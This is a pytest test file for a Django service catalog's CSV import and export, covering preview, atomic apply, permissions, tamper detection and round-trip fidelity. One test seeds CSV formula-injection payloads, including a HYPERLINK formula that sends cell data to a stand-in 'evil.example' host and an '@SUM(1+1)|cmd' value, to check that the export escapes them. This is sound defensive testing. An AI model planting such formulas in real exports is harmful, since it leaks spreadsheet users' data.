"""Services out to a spreadsheet and back: previewed row by row, confirmed as previewed, all or nothing."""

import tracemalloc
from datetime import timedelta
from io import BytesIO
from typing import Any

import pytest
from django.db import transaction
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pytest_django import Settings

from readiness.catalog import events
from readiness.catalog.exchange import (
    COLUMNS,
    ImportChanged,
    ImportPreview,
    apply_import,
    export_services,
    preview_import,
)
from readiness.catalog.models import Endpoint, Service
from readiness.catalog.operations import edit_service, retire_service
from readiness.characters import TURNING
from readiness.refusals import Forbidden, Invalid
from readiness.teams.actors import SYSTEM, Actor, Scope
from readiness.teams.operations import archive_team, change_member, remove_member
from tests.world import AT, World, kinds_since, last_entry

PLAIN = st.characters(exclude_categories=["Cc", "Cs"], exclude_characters="".join(TURNING))


def preview(world: World, content: str, who: str = "lead") -> ImportPreview:
    return preview_import(content, world.actor(who), AT)


def confirm(world: World, content: str, digest: str, who: str = "lead") -> Any:
    return apply_import(content=content.encode(), digest=digest, actor=world.actor(who), at=AT)


def load(world: World, content: str, who: str = "lead") -> Any:
    return confirm(world, content, preview(world, content, who).digest, who)


def problems(world: World, content: str, who: str = "lead") -> dict[int, dict[str, list[str]]]:
    return {row.line: row.problems for row in preview(world, content, who).bad_rows}


def exported(world: World, who: str = "lead") -> str:
    return "".join(export_services(world.actor(who)))


def test_a_preview_changes_nothing_at_all(world: World):
    world.service("Shop")
    before, rows = last_entry(), list(Service.objects.values())
    assert preview(world, "name,team\nNew,orders\n").is_good
    preview(world, "slug,name,team\nshop,Renamed,orders\n")
    assert (kinds_since(before), list(Service.objects.values())) == ([], rows)


def test_each_bad_row_is_named_with_its_column_and_reason(world: World):
    world.service("Shop")
    world.service("Hidden", world.billing)
    content = (
        "slug,name,team,tier,lifecycle,visibility,owner,repository,rto_minutes,rpo_minutes,url,description\n"
        ",Good,orders,1,live,organisation,lead@example.org,,240,60,https://good.example.org,\n"
        ",,orders,,,,,,,,,\n"
        ",A,,,,,,,,,,\n"
        ",B,nowhere,,,,,,,,,\n"
        ",C,billing,,,,,,,,,\n"
        ",D,orders,9,dead,public,outsider@example.org,ftp://x,-1,soon,https://u:p@x.org,\n"
        "Bad Slug,E,orders,,,,,,,,,\n"
        "hidden,F,orders,,,,,,,,,\n"
        ",SHOP,orders,,,,,,,,,\n"
        ",good,orders,,,,,,,,,\n"
        "shop,Shop,billing,,,,,,,,,\n"
        "shop,Shop,orders,,,,,,,,,\n"
        ",G,orders,,retired,,,,,,,\n"
        ",H,orders,1,,,,,,,,,surplus\n"
    )
    found = {line: set(columns) for line, columns in problems(world, content).items()}
    assert found == {
        3: {"name"},
        4: {"team"},
        5: {"team"},
        6: {"team"},
        7: {"tier", "lifecycle", "visibility", "owner", "repository", "rto_minutes", "rpo_minutes", "url"},
        8: {"slug"},
        10: {"name"},
        11: {"name"},
        12: {"team"},
        13: {"slug"},
        14: {"lifecycle"},
        15: {""},
    }
    unseen, missing = problems(world, content)[6]["team"], problems(world, content)[5]["team"]
    assert unseen == missing  # a team that one may not see is no team


def test_one_bad_row_keeps_every_row_out(world: World):
    content = "name,team\nGood,orders\nBad,nowhere\n"
    shown, before = preview(world, content), last_entry()
    with pytest.raises(Invalid):
        confirm(world, content, shown.digest)
    assert not Service.objects.exists()
    assert kinds_since(before) == []


def test_what_is_confirmed_is_created(world: World):
    content = (
        "Name;Team;Tier;Owner;RTO_minutes;URL;Description\r\n"
        "Shop;orders;1;contributor@example.org;240;shop.example.org;'=not a formula\r\n"
        "Äpfel;orders;;;;;\r\n"
    )
    result = load(world, "\ufeff" + content, "contributor")
    assert (result.created, result.updated, result.unchanged) == (2, 0, 0)
    shop = Service.objects.get(slug="shop")
    assert (shop.tier, shop.owner, shop.rto_minutes) == (1, world.people["contributor"], 240)
    assert shop.description == "=not a formula"
    assert Endpoint.objects.get().url == "https://shop.example.org/"
    assert Service.objects.get(slug="apfel").tier == 3


def test_each_service_is_recorded_and_so_is_the_import(world: World):
    world.service("Old")
    before = last_entry()
    load(world, "slug,name,team,url\n,New,orders,\nold,Older,orders,old.example.org\n")
    assert kinds_since(before) == [
        events.SERVICE_CREATED,
        events.SERVICE_EDITED,
        events.ENDPOINT_SET,
        events.SERVICES_IMPORTED,
    ]


def test_columns_that_are_not_there_leave_their_fields_and_empty_cells_empty_them(world: World):
    world.service("Shop", tier=1, description="Sells", rto_minutes=5, url="shop.example.org")
    load(world, "slug,name,team,tier,rto_minutes,url\nshop,Shop,orders,,,\n")
    shop = Service.objects.get()
    assert (shop.tier, shop.description, shop.rto_minutes) == (1, "Sells", None)
    assert not Endpoint.objects.exists()


def test_the_preview_tells_before_and_after(world: World):
    world.service("Shop", url="shop.example.org")
    (row,) = preview(world, "slug,name,team,tier,url\nshop,Shop 2,orders,1,new.example.org\n").rows
    assert row.action == "update"
    assert row.changes == {
        "name": ("Shop", "Shop 2"),
        "tier": ("3", "1"),
        "url": ("https://shop.example.org/", "https://new.example.org/"),
    }


@pytest.mark.parametrize("who", ["viewer", "auditor", "security_reviewer"])
def test_who_only_reads_imports_nothing(world: World, who: str):
    world.service("Shop")
    found = problems(world, "slug,name,team\n,New,orders\nshop,Renamed,orders\n", who)
    assert {line: set(columns) for line, columns in found.items()} == {2: {"team"}, 3: {"slug"}}


def test_a_stranger_is_given_the_next_address_and_told_nothing_of_a_hidden_service(world: World):
    world.service("Shop", description="Secret plans")
    shown = preview(world, "slug,name,team\nshop,Shop,billing\n", "outsider")
    assert [(row.slug, row.problems) for row in shown.rows] == [("shop-2", {})]
    assert "Secret" not in repr(shown.rows)


def test_a_token_needs_the_scope_and_a_machine_imports_nothing(world: World):
    reading = Actor(world.person("lead"), scopes=frozenset({Scope.READ}))
    assert preview_import("name,team\nNew,orders\n", reading, AT).bad_rows
    with pytest.raises(Forbidden):
        apply_import(content=b"name,team\nNew,orders\n", digest="", actor=SYSTEM, at=AT)


@pytest.mark.parametrize("tampered", ["name,team\nShop,orders\nMore,orders\n", "name,team\nShoq,orders\n"])
def test_other_bytes_than_those_previewed_are_refused(world: World, tampered: str):
    digest = preview(world, "name,team\nShop,orders\n").digest
    with pytest.raises(ImportChanged):
        confirm(world, tampered, digest)
    with pytest.raises(ImportChanged):
        confirm(world, "name,team\nShop,orders\n", "0" * 64)
    assert not Service.objects.exists()


def test_a_world_that_changed_since_the_preview_is_refused(world: World):
    service = world.service("Shop")
    content = "slug,name,team,tier\nshop,Shop,orders,1\n,New,orders,2\n"
    changes: list[Any] = [
        lambda: edit_service(
            service=service, changes={"tier": 4}, revision=1, actor=world.actor("lead"), at=AT
        ),
        lambda: world.service("New"),
        lambda: retire_service(service=service, actor=world.actor("lead"), at=AT),
        lambda: change_member(
            team=world.orders,
            user=world.people["contributor"],
            role="viewer",
            actor=world.actor("lead"),
            at=AT,
        ),
    ]
    for change in changes:
        digest = preview(world, content, "contributor").digest
        change()
        before = last_entry()
        with pytest.raises(ImportChanged):
            confirm(world, content, digest, "contributor")
        assert kinds_since(before) == []


def test_the_import_falls_whole_when_somebody_is_faster_in_the_middle(
    world: World, monkeypatch: pytest.MonkeyPatch
):
    """Between the second look and the write, another transaction may still take a name."""
    from readiness.catalog.operations import importing

    begin = importing.begin_service

    def slow(**given: Any) -> Service:
        made = begin(**given)
        Service.objects.create(team=world.orders, slug="taken", name="Second", created_at=AT)
        return made

    monkeypatch.setattr(importing, "begin_service", slow)
    content = "name,team\nFirst,orders\nSecond,orders\n"
    with pytest.raises(ImportChanged):
        load(world, content)
    assert not Service.objects.exists()


def test_nothing_is_imported_into_an_archived_team(world: World):
    archive_team(team=world.orders, actor=world.actor("administrator"), at=AT)
    assert set(problems(world, "name,team\nNew,orders\n")[2]) == {"team"}


def test_a_retired_service_is_brought_back_by_who_may(world: World):
    retire_service(service=world.service("Shop"), actor=world.actor("lead"), at=AT)
    back = "slug,name,team,lifecycle\nshop,Shop,orders,live\n"
    assert set(problems(world, back, "contributor")[2]) == {"lifecycle"}
    assert set(problems(world, "slug,name,team,tier\nshop,Shop,orders,1\n")[2]) == {"lifecycle"}
    load(world, back)
    assert Service.objects.get().lifecycle == "live"


def test_a_name_that_a_row_above_frees_may_be_taken(world: World):
    world.service("Shop")
    load(world, "slug,name,team\nshop,Old shop,orders\n,Shop,orders\n")
    assert set(Service.objects.values_list("slug", "name")) == {("shop", "Old shop"), ("shop-2", "Shop")}


def test_addresses_made_from_names_give_way_to_those_that_rows_ask_for(world: World):
    load(world, "slug,name,team\n,Shop,orders\nshop,Market,orders\n")
    assert dict(Service.objects.values_list("name", "slug")) == {"Market": "shop", "Shop": "shop-2"}


def test_bounds_are_those_of_the_settings(world: World, settings: Settings):
    settings.CSV_IMPORT_ROWS = 2
    for rows, good in ((2, True), (3, False)):
        content = "name,team\n" + "".join(f"S{number},orders\n" for number in range(rows))
        if good:
            assert len(preview(world, content).rows) == 2
        else:
            with pytest.raises(Invalid, match="more than 2 rows"):
                preview(world, content)
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 20
    with pytest.raises(Invalid, match="larger"):
        preview_import(BytesIO(b"name,team\n" + b"x" * 20), world.actor("lead"), AT)
    with pytest.raises(Invalid, match="no rows"):
        preview(world, "name,team\n")


def test_the_export_says_only_what_its_reader_sees_and_everything_of_it(world: World):
    world.service("Shop", owner="lead@example.org", url="shop.example.org", tier=2, rpo_minutes=60)
    world.service("Secret", world.billing)
    head, shop, end = exported(world).split("\r\n")
    assert head == ",".join(f'"{column}"' for column in COLUMNS)
    assert shop == (
        '"shop","Shop","orders","2","pre_launch","team","lead@example.org","","","60",'
        '"https://shop.example.org/",""'
    )
    assert end == ""
    assert "Secret" in exported(world, "auditor")
    assert "Shop" not in exported(world, "colleague")


def test_formulas_go_out_as_text(world: World):
    world.service('=HYPERLINK("http://evil.example/?"&A1)', description="@SUM(1+1)|cmd")
    body = exported(world).split("\r\n")[1]
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1)"' in body
    assert '"\'@SUM(1+1)|cmd"' in body


def test_an_untouched_export_imports_as_no_change(world: World):
    world.service("Shop", owner="contributor@example.org", url="shop.example.org", description='a\nb;c,"d"')
    world.service("+49 hotline", description="'=1+1")
    world.service("-", tier=4, lifecycle="planned", visibility="organisation", rto_minutes=0)
    retire_service(service=world.service("Old"), actor=world.actor("lead"), at=AT)
    remove_member(team=world.orders, user=world.people["contributor"], actor=world.actor("lead"), at=AT)
    shown = preview(world, exported(world))
    assert shown.counts == {"create": 0, "update": 0, "unchanged": 4}
    assert shown.is_good


@settings(
    max_examples=40,
    deadline=timedelta(seconds=5),
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    name=st.text(PLAIN, min_size=1, max_size=30),
    description=st.text(PLAIN, max_size=60),
    tier=st.integers(1, 4),
    minutes=st.none() | st.integers(0, 10_000),
)
def test_any_service_comes_back_as_it_went(
    world: World, name: str, description: str, tier: int, minutes: int | None
):
    with transaction.atomic():
        try:
            service = world.service(name, description=description, tier=tier, rto_minutes=minutes)
        except Invalid:
            return
        (row,) = preview(world, exported(world)).rows
        assert (row.slug, row.action, row.problems) == (service.slug, "unchanged", {})
        transaction.set_rollback(True)


@pytest.mark.slow
def test_the_export_needs_no_more_memory_for_ten_times_as_many_services(world: World):
    def fill(count: int) -> None:
        start = Service.objects.count()
        Service.objects.bulk_create(
            Service(
                team=world.orders,
                slug=f"s-{number}",
                name=f"S {number}",
                description="x" * 1000,
                created_at=AT,
            )
            for number in range(start, count)
        )

    def peak() -> int:
        actor = world.actor("lead")
        tracemalloc.start()
        for one in export_services(actor):
            assert one
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    fill(600)
    peak()
    few = peak()
    fill(6000)
    assert peak() < few * 2
